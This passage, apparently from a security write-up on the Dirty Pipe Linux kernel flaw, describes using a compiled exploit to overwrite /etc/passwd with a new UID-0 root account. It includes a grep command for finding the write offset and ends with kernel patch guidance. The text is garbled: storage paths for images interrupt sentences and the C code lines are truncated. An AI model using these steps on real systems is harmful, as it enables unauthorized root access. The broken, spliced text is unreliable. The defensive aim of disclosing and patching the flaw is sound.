fprintf(stderr, "short write

printf("It worked!

The example screenshot below demonstrates the exploit beingused to overwrite the contents of the /etc/passwd file to add a new root user with a pre-selected password.  Firstly a SHA512 password hash is generated for the string ‘DirtyPipe” which is then inserted into the user account template string.  The UID and GID, marked by the 3rd and 4th fields, are set to ‘0’ to represent a root user.
Grep -b “games” /etc/passwd
This command was used to identify the offset of the position in the file we wish to start overwriting.    Finally the ‘target file’, ‘byte-offset’ and ‘user account string’ were passed to our compiled exploit.


Currently the only remedy for this vulnerability is to install the relevant kernel patch.  All vulnerable major releases have had a minor release to include this fix.  Vulnerable kernels include those with versions lower than:

  • 5.10.102
  • 5.15.25
  • 5.16.11

The versions in the above list are all patched, however, anything lower will need to beupdated.  This applies to mobile and desktop kernels.  Some OS’s may implement backported patches where critical security updates are released for older software without having to implement a full kernel update, however,this would have to be checked with each individual OS.